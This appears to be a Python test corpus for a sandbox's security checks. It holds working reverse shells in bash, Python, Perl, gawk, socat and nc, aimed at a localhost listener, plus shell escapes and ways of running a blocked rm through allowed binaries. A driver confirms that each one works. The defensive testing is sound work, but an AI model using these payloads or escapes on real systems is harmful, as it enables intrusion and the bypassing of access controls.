# ruff: noqa: E501 - attack payloads are data, kept one per line to read as written
"""The attack corpus: reverse shells of six families and more, each against a listener
that the driver opens on 127.0.0.1 INSIDE the sandbox (its own network namespace, policy
``none``: nothing leaves it), and blocked programs run from inside allowed ones.

The driver (run in the sandbox) listens, starts the payload with ``PORT`` replaced,
accepts the shell's connection, sends commands and says whether the shell answered: the
attack really works, so a detection is not a test of a broken payload.
"""

from __future__ import annotations

# Each payload an argv; PORT is replaced by the driver's listening port.
REVERSE_SHELLS: dict[str, list[str]] = {
    "bash /dev/tcp": ["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"],
    "bash /dev/tcp fd": [
        "bash", "-c",
        'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read l; do eval "$l" 2>&5 >&5; done',
    ],
    "python pty": [
        "python3", "-c",
        "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
    ],
    "python subprocess": [
        "python3", "-c",
        "import socket,subprocess;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
    ],
    "perl": [
        "perl", "-e",
        'use Socket;$i="127.0.0.1";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};',
    ],
    "awk /inet": [
        "gawk",
        'BEGIN { s = "/inet/tcp/0/127.0.0.1/PORT"; while (42) { do { printf "> " |& s; s |& getline c;'
        ' if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'
        ' while (c != "exit"); close(s); exit } }',
    ],
    "socat": ["socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh"],
    "socat pty": ["socat", "TCP:127.0.0.1:PORT", "EXEC:sh -i,pty,stderr,setsid"],
    "mkfifo + nc": [
        "sh", "-c", "mkfifo /tmp/fPORT; cat /tmp/fPORT | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > /tmp/fPORT",
    ],
}  # fmt: skip

# Beyond the six families: shells whose link to the network is one step removed (a relay
# through pipes or a pty, a fifo, a second client, a delay, a socket handed over by a
# child), and other tools' ways to the same end. Each an argv, as above; the number after
# it is how many connections the driver accepts (``nc | sh | nc`` makes two).
MORE_REVERSE_SHELLS: dict[str, tuple[list[str], int]] = {
    "python dup2 + execv": (["python3", "-c",
        "import socket,os;s=socket.create_connection(('127.0.0.1',PORT));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv('/bin/sh',['sh'])"], 1),
    "python socket as stdio, later": (["python3", "-c",
        "import socket,subprocess,time;s=socket.create_connection(('127.0.0.1',PORT));time.sleep(1);"
        "subprocess.call(['/bin/bash','--norc'],stdin=s,stdout=s,stderr=s)"], 1),
    "python relays through pipes": (["python3", "-c",
        "import socket,subprocess,threading;s=socket.create_connection(('127.0.0.1',PORT));"
        "p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT);"
        "threading.Thread(target=lambda:[s.sendall(b) for b in iter(lambda:p.stdout.read1(4096),b'')],daemon=True).start();"
        "[(p.stdin.write(b),p.stdin.flush()) for b in iter(lambda:s.recv(4096),b'')]"], 1),
    "python relays through a pty": (["python3", "-c",
        "import socket,os,pty,select;s=socket.create_connection(('127.0.0.1',PORT));pid,fd=pty.fork()\n"
        "if pid==0: os.execv('/bin/sh',['sh'])\n"
        "while True:\n r,_,_=select.select([s,fd],[],[])\n"
        " if s in r: os.write(fd,s.recv(4096))\n if fd in r: s.sendall(os.read(fd,4096))"], 1),
    "python socket from a child": (["python3", "-c",
        "import socket,os;a,b=socket.socketpair()\n"
        "if os.fork()==0:\n c=socket.create_connection(('127.0.0.1',PORT));socket.send_fds(b,[b'x'],[c.fileno()]);os._exit(0)\n"
        "_,fds,_,_=socket.recv_fds(a,1,1)\n[os.dup2(fds[0],f) for f in (0,1,2)];os.execv('/bin/dash',['dash','-i'])"], 1),
    "perl IO::Socket system loop": (["perl", "-MIO::Socket::INET", "-e",
        '$c=IO::Socket::INET->new(PeerAddr=>"127.0.0.1",PeerPort=>PORT) or die;open(STDOUT,">&",$c);'
        'open(STDERR,">&",$c);while(defined($l=<$c>)){system($l)}'], 1),
    "bash 196<> read loop": (["bash", "-c",
        'exec 196<>/dev/tcp/127.0.0.1/PORT; while read -r l <&196; do eval "$l" >&196 2>&196; done'], 1),
    "sh fifo + nc": (["sh", "-c",
        "rm -f /tmp/gPORT; mkfifo /tmp/gPORT; sh < /tmp/gPORT 2>&1 | nc 127.0.0.1 PORT > /tmp/gPORT"], 1),
    "nc | sh | nc": (["sh", "-c", "nc 127.0.0.1 PORT | /bin/sh 2>&1 | nc 127.0.0.1 PORT"], 2),
    "socat SYSTEM pty": (["socat", "TCP:127.0.0.1:PORT", "SYSTEM:sh -i,pty,stderr"], 1),
    "socat EXEC first": (["socat", "EXEC:/bin/bash -i,pty,stderr,setsid,sigint,sane", "TCP:127.0.0.1:PORT"], 1),
    "gawk /inet getline loop": (["gawk",
        'BEGIN { s = "/inet/tcp/0/127.0.0.1/PORT"; while ((s |& getline c) > 0) {'
        ' while ((c | getline l) > 0) print l |& s; close(c) } }'], 1),
}  # fmt: skip

# Sent to the shell; the answer holds 42 only if a shell evaluated the arithmetic.
PROBE = b"id\necho K2MARK-$((6*7))\n"
ANSWER = b"K2MARK-42"

DRIVER = """\
import json
import os
import signal
import socket
import subprocess
import sys
import time

argv = json.load(open(sys.argv[1]))
conns_wanted = int(sys.argv[2]) if len(sys.argv) > 2 else 1
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(2)
srv.settimeout(10)
port = srv.getsockname()[1]
p = subprocess.Popen([a.replace("PORT", str(port)) for a in argv], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
data = b""
try:
    conns = [srv.accept()[0] for _ in range(conns_wanted)]
    for conn in conns:
        conn.settimeout(0.2)
    time.sleep(0.5)
    for conn in conns:  # which one the shell reads is the payload's business
        conn.sendall(__PROBE__)
    deadline = time.monotonic() + 10
    while __ANSWER__ not in data and time.monotonic() < deadline:
        for conn in conns:
            try:
                chunk = conn.recv(4096)
            except socket.timeout:
                continue
            data += chunk
            if not chunk:  # closed: do not spin on it
                time.sleep(0.05)
    for conn in conns:
        conn.sendall(b"exit\\n")
    time.sleep(0.3)
finally:
    os.killpg(p.pid, signal.SIGKILL)
print("ANSWERED" if __ANSWER__ in data else "NOANSWER", repr(data[-300:]))
""".replace("__PROBE__", repr(PROBE)).replace("__ANSWER__", repr(ANSWER))

# A blocked program (rm) run from inside allowed ones; VICTIM is a file it tries to delete.
# From the bypasses and public shell-escape collections for binaries in the image.
BLOCKED_FROM_INSIDE: dict[str, str] = {
    "python os.system": "python3 -c 'import os; os.system(\"rm -f VICTIM\")'",
    "python subprocess": "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-f\", \"VICTIM\"])'",
    "python execv": "python3 -c 'import os; os.execv(\"/usr/bin/rm\", [\"cleanup\", \"-f\", \"VICTIM\"])'",
    "awk system()": "awk 'BEGIN { system(\"rm -f VICTIM\") }'",
    "gawk system()": "gawk 'BEGIN { system(\"rm -f VICTIM\") }'",
    "perl exec": "perl -e 'exec \"rm\", \"-f\", \"VICTIM\"'",
    "perl system": "perl -e 'system(\"rm -f VICTIM\")'",
    "sed e": "sed -n '1e rm -f VICTIM' /work/notes.txt",
    "tar checkpoint-action": (
        "tar cf /dev/null /work/notes.txt --checkpoint=1 --checkpoint-action=exec='rm -f VICTIM'"
    ),
    "run-parts": "run-parts --regex '^rm$' --arg=-f --arg=VICTIM /usr/bin",
    "script -c": "script -q -c 'rm -f VICTIM' /dev/null",
    "nsenter": "nsenter rm -f VICTIM",
    "choom": "choom -n 0 -- rm -f VICTIM",
    "find -exec": "find /work -name notes.txt -exec rm -f VICTIM ';'",
    "xargs": "echo VICTIM | xargs rm -f",
    "env": "env rm -f VICTIM",
    "timeout": "timeout 5 rm -f VICTIM",
    "setsid": "setsid -w rm -f VICTIM",
    "symlink in /tmp": "ln -sf /usr/bin/rm /tmp/cleanup && /tmp/cleanup -f VICTIM",
}  # fmt: skip

# With the shells blocked: shell escapes of binaries in the python image (the 13
# that got a shell, and more of the same kind). Run as argv (no shell in between).
SHELL_ESCAPES: dict[str, str] = {
    "nsenter": "nsenter /bin/sh",
    "choom": "choom -n 0 /bin/sh",
    "perl exec": "perl -e 'exec \"/bin/sh\";'",
    "sed e": "sed -n '1e exec /bin/sh 1>&0' /work/notes.txt",
    "tar checkpoint-action": (
        "tar cf /dev/null /work/notes.txt --checkpoint=1 --checkpoint-action=exec=/bin/sh"
    ),
    "run-parts": "run-parts --new-session --regex '^sh$' /bin",
    "script": "script -q /dev/null",
    "python pty": "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "python os.system": "python3 -c 'import os; os.system(\"id\")'",
    "awk system()": "awk 'BEGIN { system(\"/bin/sh\") }'",
    "env": "env /bin/sh",
    "find -exec": "find /work -name notes.txt -exec /bin/sh ';' -quit",
    "xargs": "xargs -a /dev/null sh",
    "timeout": "timeout 5 /bin/sh",
    "setsid": "setsid -w /bin/sh",
    "flock": "flock -u /work /bin/sh",
    "ionice": "ionice /bin/sh",
    "nice": "nice /bin/sh",
    "stdbuf": "stdbuf -i0 /bin/sh",
    "taskset": "taskset 1 /bin/sh",
    "setarch": "setarch x86_64 /bin/sh",
    "prlimit": "prlimit --nofile=100 /bin/sh",
    "bash by path": "/usr/bin/bash -c id",
    "dash by path": "/usr/bin/dash -c id",
    "rbash": "rbash -c id",
}  # fmt: skip

# The busybox image has no python: the same driver as a script of its sh. busybox nc
# listens on PORT in the sandbox's own network namespace and sends the probe once the
# payload connected; the answer is polled for (10 s at most).
BUSYBOX_REVERSE_SHELLS: dict[str, str] = {
    "busybox nc -e": "nc 127.0.0.1 PORT -e /bin/sh",
    "busybox mkfifo + nc": "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 PORT > /tmp/f",
    "busybox sh fifo + nc": "rm -f /tmp/g; mkfifo /tmp/g; sh < /tmp/g 2>&1 | nc 127.0.0.1 PORT > /tmp/g",
}
BUSYBOX_PORT = 4444  # in the sandbox's own network namespace: nothing else listens there
BUSYBOX_DRIVER = f"""\
port={BUSYBOX_PORT}
rm -f /tmp/answer
{{ sleep 1; printf 'id\\necho K2MARK-$((6*7))\\n'; sleep 5; printf 'exit\\n'; }} 2>/dev/null | nc -l -p $port > /tmp/answer 2>/dev/null &
i=0
while [ $i -lt 50 ] && ! grep -qi ':115C 00000000:0000 0A' /proc/net/tcp; do sleep 0.1; i=$((i+1)); done
payload=$(sed "s/PORT/$port/g" "$1")
sh -c "$payload" </dev/null >/dev/null 2>&1 &
i=0
while [ $i -lt 100 ] && ! grep -q K2MARK-42 /tmp/answer; do sleep 0.1; i=$((i+1)); done
grep -q K2MARK-42 /tmp/answer && echo ANSWERED || echo NOANSWER
"""
